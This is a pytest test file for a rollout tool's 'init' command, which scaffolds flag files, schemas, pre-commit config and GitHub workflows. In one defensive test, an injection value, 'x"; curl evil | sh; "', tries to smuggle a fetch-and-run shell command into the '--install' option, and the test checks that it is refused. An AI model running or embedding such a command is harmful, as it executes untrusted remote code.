"""``rollout init``: a new repository that validates at once, and never an overwrite."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from runner import REPOSITORY, __version__
from runner.load.yamlsafe import load_text
from tests.conftest import PROJECT, cli_env, git, run_cli
from tests.surfaces.test_workflows import check_jsonschema, check_uses, zizmor

#: rollout runs in this process (tests/conftest.py run_cli_inprocess): no start-up per call
pytestmark = pytest.mark.cli_inprocess


def check_workflows(workflows: list[Path]) -> None:
    """What this project's own workflows pass: zizmor's pedantic persona, GitHub's schema."""
    out = zizmor(*workflows)
    assert out.returncode == 0 and "No findings" in out.stdout, out.stdout + out.stderr
    out = check_jsonschema("vendor.github-workflows", *workflows)
    assert out.returncode == 0, out.stdout + out.stderr


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file() and ".git/" not in p.as_posix()}


def test_init_scaffolds_a_repository_that_validates(tmp_path: Path) -> None:
    root = tmp_path / "flags-repo"
    out = run_cli(["init", str(root)], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    files = tree(root)
    assert {"pyproject.toml", "flags/new_checkout.yaml", "rollouts/new_checkout.yaml",
            ".pre-commit-config.yaml", ".github/workflows/validate.yml",
            ".github/workflows/advance.yml", ".github/workflows/control.yml",
            "schemas/flag.schema.json", "schemas/rollout.schema.json"} <= set(files)
    valid = run_cli(["validate"], cwd=root)
    assert valid.returncode == 0, valid.stdout + valid.stderr
    # the editors' schema references resolve inside the new repository
    for rel in ("flags/new_checkout.yaml", "rollouts/new_checkout.yaml"):
        first = (root / rel).read_text().splitlines()[0]
        assert first.startswith("# yaml-language-server: $schema=../schemas/")
        target = (root / rel).parent / first.split("$schema=", 1)[1]
        assert target.resolve().is_file()
    # the schemas are this version's, byte for byte
    assert files["schemas/flag.schema.json"] == (PROJECT / "schemas/flag.schema.json").read_bytes()
    # the workflows get rollout-runner from the released action, and pass the checks
    from runner.onboarding.scaffold import ACTION

    assert f"{REPOSITORY}@v{__version__.split('.')[0]}" == ACTION
    workflows = sorted((root / ".github/workflows").glob("*.yml"))
    for wf in workflows:
        text = wf.read_text()
        install = [s for job in load_text(text)["jobs"].values() for s in job["steps"]
                   if s.get("name") == "Install rollout-runner"]
        assert install and all(s["uses"] == ACTION for s in install), wf.name
        assert "pip install" not in text and "uses: ./" not in text and "@" + "INSTALL" not in text
    check_workflows(workflows)


SERVICE_PYPROJECT = (
    '[project]\nname = "checkout-service"\nversion = "1.4.0"\n'
    'dependencies = ["httpx>=0.27"]\n\n[tool.ruff]\nline-length = 100')  # no final newline


def test_init_in_an_existing_service_repository_merges_and_never_overwrites(tmp_path: Path) -> None:
    """A service repository on `master` with its own pyproject.toml, .gitignore and a plan of
    the scaffold's name: pyproject.toml gets [tool.rollout] appended (every byte of it kept),
    .gitignore the missing line, the plan is kept; the workflows trigger on master."""
    root = tmp_path / "service"
    root.mkdir()
    git(root, "init", "-q", "-b", "master")
    (root / "pyproject.toml").write_text(SERVICE_PYPROJECT)
    (root / ".gitignore").write_text("__pycache__/\n")
    (root / "rollouts").mkdir()
    mine = "flag: new_checkout\nstrategy: safe\nwait: 10m\ngates:\n  error_rate: 2\n"
    (root / "rollouts/new_checkout.yaml").write_text(mine)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "service")
    out = run_cli(["init"], cwd=root)
    assert out.returncode == 0, out.stderr
    text = (root / "pyproject.toml").read_text()
    assert text.startswith(SERVICE_PYPROJECT + "\n")
    import tomllib

    doc = tomllib.loads(text)
    assert doc["project"]["dependencies"] == ["httpx>=0.27"] and doc["tool"]["ruff"]
    assert doc["tool"]["rollout"]["metrics"]["url_env"] == "PROMETHEUS_URL"
    assert "merged into pyproject.toml ([tool.rollout] appended)" in out.stdout
    assert (root / ".gitignore").read_text().startswith("__pycache__/\n")
    assert "/public/" in (root / ".gitignore").read_text()
    assert (root / "rollouts/new_checkout.yaml").read_text() == mine
    assert "kept (exists, not overwritten) rollouts/new_checkout.yaml" in out.stdout
    assert "created flags/new_checkout.yaml" in out.stdout
    advance = load_text((root / ".github/workflows/advance.yml").read_text())
    assert advance["on"]["push"]["branches"] == ["master"]
    step = next(s for s in advance["jobs"]["advance"]["steps"] if s.get("name") == "Advance")
    assert set(step["env"]) >= {"PROMETHEUS_URL", "PROMETHEUS_TOKEN"}
    # the next commands: a git repository already, so no `git init`; push to master
    assert "git init" not in out.stderr and "git push -u origin master" in out.stderr
    assert "git remote add origin" in out.stderr  # the service has no remote yet
    valid = run_cli(["validate"], cwd=root)
    assert valid.returncode == 0, valid.stdout + valid.stderr
    check_workflows(sorted((root / ".github/workflows").glob("*.yml")))
    # again: [tool.rollout] is there, refused with a hint, nothing written
    before = tree(root)
    again = run_cli(["init"], cwd=root)
    assert again.returncode == 1 and "already has [tool.rollout]" in again.stderr
    assert "remove the [tool.rollout]" in again.stderr
    assert tree(root) == before


def test_init_branch_comes_from_the_remote_and_next_says_git_init_b(tmp_path: Path) -> None:
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "trunk", str(origin))
    seed = tmp_path / "seed"
    git(tmp_path, "init", "-q", "-b", "trunk", str(seed))
    git(seed, "commit", "-q", "--allow-empty", "-m", "x")
    git(seed, "push", "-q", str(origin), "trunk")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(origin), str(clone))
    git(clone, "switch", "-q", "-c", "feature")
    out = run_cli(["init"], cwd=clone)
    assert out.returncode == 0
    assert "branches: [trunk]" in (clone / ".github/workflows/advance.yml").read_text()
    assert "git push -u origin trunk" in out.stderr and "git remote add" not in out.stderr
    # not a git repository: main, and `git init -b main` (plain `git init` may make master)
    fresh = tmp_path / "fresh"
    out = run_cli(["init", str(fresh)], cwd=tmp_path)
    assert out.returncode == 0
    assert "branches: [main]" in (fresh / ".github/workflows/advance.yml").read_text()
    assert "git init -b main" in out.stderr and "git push -u origin main" in out.stderr


def test_init_refuses_a_pyproject_that_is_not_toml(tmp_path: Path) -> None:
    root = tmp_path / "broken"
    root.mkdir()
    (root / "pyproject.toml").write_text("[project\n")
    out = run_cli(["init", str(root)], cwd=tmp_path)
    assert out.returncode == 1 and "not valid TOML" in out.stderr
    assert not (root / "flags").exists()


def test_init_in_the_current_folder_and_usage_error(tmp_path: Path) -> None:
    out = run_cli(["init"], cwd=tmp_path)
    assert out.returncode == 0 and (tmp_path / "flags/new_checkout.yaml").is_file()
    (tmp_path / "a-file").write_text("x")
    out = run_cli(["init", "a-file"], cwd=tmp_path)
    assert out.returncode == 2 and "not a folder" in out.stderr
    out = run_cli(["init", "--branch", "a b", "other"], cwd=tmp_path)
    assert out.returncode == 2 and "--branch" in out.stderr and not (tmp_path / "other").exists()
    # a name YAML would misread is written as a quoted string, and GitHub's schema accepts it
    out = run_cli(["init", "--branch", "release#1", "quoted"], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    doc = load_text((tmp_path / "quoted/.github/workflows/advance.yml").read_text())
    assert doc["on"]["push"]["branches"] == ["release#1"]


def test_pre_commit_hook_of_the_scaffold_is_this_release_and_rejects_a_bad_flag(
        tmp_path: Path) -> None:
    """The scaffold's .pre-commit-config.yaml, byte for byte, run by pre-commit itself: git
    resolves its GitHub URL to a clone of this checkout that has this version's tag (the tag
    the release workflow insists on), and the hook comes from its .pre-commit-hooks.yaml."""
    root = tmp_path / "repo"
    assert run_cli(["init", str(root)], cwd=tmp_path).returncode == 0
    config = load_text((root / ".pre-commit-config.yaml").read_text())
    (hook_repo,) = config["repos"]
    url = f"https://github.com/{REPOSITORY}"
    assert hook_repo == {"repo": url, "rev": f"v{__version__}",
                         "hooks": [{"id": "rollout-validate"}]}
    published = load_text((PROJECT / ".pre-commit-hooks.yaml").read_text())
    assert "rollout-validate" in [h["id"] for h in published]

    home = tmp_path / "rollout-runner"
    git(tmp_path, "clone", "-q", "--no-local", str(PROJECT), str(home))
    git(home, "tag", "-f", f"v{__version__}")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "scaffold")
    (root / "flags/broken.yaml").write_text(
        "key: broken\ndescription: x\nowner: y\nrisk: extreme\n")
    git(root, "add", "flags/broken.yaml")
    env = cli_env({"PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home"),
                   # the one network address of the config, answered by the local clone
                   "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{home}.insteadOf",
                   "GIT_CONFIG_VALUE_0": url})
    pre_commit = shutil.which("pre-commit")
    assert pre_commit, "pre-commit is not installed"
    out = subprocess.run([pre_commit, "run", "--files", "flags/broken.yaml"], cwd=root, env=env,
                         capture_output=True, text=True, timeout=300)
    assert out.returncode == 1, out.stdout + out.stderr
    assert "flags/broken.yaml:4:" in out.stdout and "risk" in out.stdout
    # a rev that is not a tag of the hook repository is refused: the check can fail
    (root / ".pre-commit-config.yaml").write_text(
        (root / ".pre-commit-config.yaml").read_text().replace(f"v{__version__}", "v0.0.0-none"))
    out = subprocess.run([pre_commit, "run", "--files", "flags/broken.yaml"], cwd=root, env=env,
                         capture_output=True, text=True, timeout=300)
    assert out.returncode != 0 and "v0.0.0-none" in out.stdout + out.stderr


def test_init_install_names_where_the_workflows_get_rollout_runner(tmp_path: Path) -> None:
    # an organisation that hosts rollout-runner itself: the workflows pip-install it from
    # there instead of using the released action
    spec = "git+https://github.com/acme/rollout-runner@v0.1.0"
    root = tmp_path / "hosted"
    out = run_cli(["init", "--install", spec, str(root)], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    workflows = sorted((root / ".github/workflows").glob("*.yml"))
    for wf in workflows:
        text = wf.read_text()
        assert f'pip install --disable-pip-version-check "{spec}"' in text
        assert REPOSITORY + "@" not in text and "uses: ./" not in text
        check_uses(text)  # setup-python comes back, pinned
        assert "actions/setup-python@" in text
    check_workflows(workflows)
    # anything that could break out of the shell word is refused before writing
    bad = tmp_path / "bad"
    out = run_cli(["init", "--install", 'x"; curl evil | sh; "', str(bad)], cwd=tmp_path)
    assert out.returncode == 2 and "--install" in out.stderr
    assert not bad.exists()


def test_metrics_docs_show_the_scaffolds_prometheus_source_and_file_is_an_option(
        tmp_path: Path) -> None:
    """docs/metrics.md's first path is, table for table, what `rollout init` writes; and
    `--metrics file` scaffolds the file source, which validates too."""
    import re
    import tomllib

    doc = (PROJECT / "docs/metrics.md").read_text(encoding="utf-8")
    section = doc.split("## Metrics where the runner runs", 1)[1]
    block = re.search(r"```toml\n(.*?)```", section, re.S)
    assert block
    scaffolded = tomllib.loads((PROJECT / "runner/templates/init/pyproject.toml").read_text())
    assert tomllib.loads(block[1])["tool"]["rollout"]["metrics"] == \
        scaffolded["tool"]["rollout"]["metrics"]
    root = tmp_path / "files"
    out = run_cli(["init", "--metrics", "file", str(root)], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    config = tomllib.loads((root / "pyproject.toml").read_text())
    assert config["tool"]["rollout"]["metrics"] == {"type": "file", "path": "metrics/{{ flag }}.json"}
    assert run_cli(["validate"], cwd=root).returncode == 0


def test_init_environments_scaffolds_a_pipeline_whose_workflow_commands_work(
        tmp_path: Path) -> None:
    """``--environments staging,production``: each environment's metric source and publish
    branch, the plan's soak and production's approval; the advance and control workflows'
    commands, run as they are written, publish each environment to its own branch."""
    import json
    import tomllib

    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    root = tmp_path / "flags-repo"
    out = run_cli(["init", "--metrics", "file", "--environments", "staging,production",
                   str(root)], cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert "environments staging -> production" in out.stderr
    config = tomllib.loads((root / "pyproject.toml").read_text())["tool"]["rollout"]
    assert list(config["environments"]) == ["staging", "production"]
    for env in ("staging", "production"):
        assert config["environments"][env]["publish"] == [f"branch:rollout-published-{env}"]
        assert config["environments"][env]["metrics"]["path"] == f"metrics/{env}/{{{{ flag }}}}.json"
    plan = load_text((root / "rollouts/new_checkout.yaml").read_text())
    assert plan["promote_after"] == "1h" and plan["environments"]["staging"] == {}
    assert plan["environments"]["production"]["steps"][1] == {"percentage": 5, "approval": True}
    advance = (root / ".github/workflows/advance.yml").read_text()
    assert "rollout advance --push --publish || status=$?" in advance
    control = (root / ".github/workflows/control.yml").read_text()
    assert 'rollout "$ACTION" --push --env "$ENVIRONMENT" --publish \\' in control
    assert load_text(control)["on"]["workflow_dispatch"]["inputs"]["environment"]["options"] == [
        "staging", "production"]
    check_workflows(sorted((root / ".github/workflows").glob("*.yml")))
    valid = run_cli(["validate"], cwd=root)
    assert valid.returncode == 0, valid.stdout + valid.stderr

    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Set up Rollout Runner")
    git(root, "remote", "add", "origin", str(remote))
    git(root, "push", "-q", "-u", "origin", "main")
    healthy = {"error_rate": 0.3, "p95_latency_ms": 180, "request_count": 1200,
               "step": {"requests": 3000, "errors": 9}}
    (root / "metrics/staging").mkdir(parents=True)
    (root / "metrics/staging/new_checkout.json").write_text(json.dumps(healthy))
    ran = run_cli(["advance", "--push", "--publish", "--now", "2026-01-15T09:00:00Z"], cwd=root)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert git(root, "log", "-1", "--format=%s") == "rollout(new_checkout@staging): start at 0%"
    for env in ("staging", "production"):
        served = json.loads(git(remote, "show", f"rollout-published-{env}:flags.json"))
        assert served["environment"] == env
    assert not (root / "rollouts/new_checkout.production.state.json").exists()
    # the control workflow's command, as written, for one environment
    paused = run_cli(["pause", "--push", "--env", "staging", "--publish",
                      "--reason=requested from the Actions page", "--", "new_checkout"],
                     cwd=root)
    assert paused.returncode == 0, paused.stdout + paused.stderr
    state = json.loads((root / "rollouts/new_checkout.staging.state.json").read_text())
    assert state["phase"] == "paused" and state["environment"] == "staging"


@pytest.mark.parametrize("value, why", [
    ("staging,Production", "'Production' is not an environment name"),
    ("staging,staging", "'staging' named twice"),
    ("staging,,production", "'' is not an environment name"),
    ("pre-prod,pre_prod", "'pre_prod' and 'pre-prod' share PRE_PROD"),
])
def test_init_environments_bad_values_one_line_exit_2_nothing_written(
        tmp_path: Path, value: str, why: str) -> None:
    out = run_cli(["init", "--environments", value, "repo"], cwd=tmp_path)
    assert out.returncode == 2, out.stderr
    assert why in out.stderr and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert not (tmp_path / "repo").exists()


def test_init_environments_into_an_existing_repository_and_prometheus_per_environment(
        tmp_path: Path) -> None:
    root = tmp_path / "service"
    root.mkdir()
    (root / "pyproject.toml").write_text(SERVICE_PYPROJECT)
    out = run_cli(["init", "--environments", "staging,production"], cwd=root)
    assert out.returncode == 0, out.stderr
    import tomllib

    text = (root / "pyproject.toml").read_text()
    assert text.startswith(SERVICE_PYPROJECT + "\n")
    envs = tomllib.loads(text)["tool"]["rollout"]["environments"]
    assert [(e["metrics"]["url_env"], e["metrics"]["bearer_token_env"]) for e in envs.values()] == [
        ("PROMETHEUS_URL_STAGING", "PROMETHEUS_TOKEN_STAGING"),
        ("PROMETHEUS_URL_PRODUCTION", "PROMETHEUS_TOKEN_PRODUCTION")]
    advance = load_text((root / ".github/workflows/advance.yml").read_text())
    step = next(s for s in advance["jobs"]["advance"]["steps"] if s.get("name") == "Advance")
    assert set(step["env"]) == {"PROMETHEUS_URL_STAGING", "PROMETHEUS_TOKEN_STAGING",
                                "PROMETHEUS_URL_PRODUCTION", "PROMETHEUS_TOKEN_PRODUCTION"}
    valid = run_cli(["validate"], cwd=root)
    assert valid.returncode == 0, valid.stdout + valid.stderr
    sharded = run_cli(["init", "--shards", "2", "--environments", "staging,production",
                       str(tmp_path / "sharded")], cwd=tmp_path)
    assert sharded.returncode == 0, sharded.stderr
    text = (tmp_path / "sharded/.github/workflows/advance.yml").read_text()
    assert "rollout publish --push\n" in text and "PROMETHEUS_URL_PRODUCTION" in text
    check_workflows(sorted((tmp_path / "sharded/.github/workflows").glob("*.yml")))
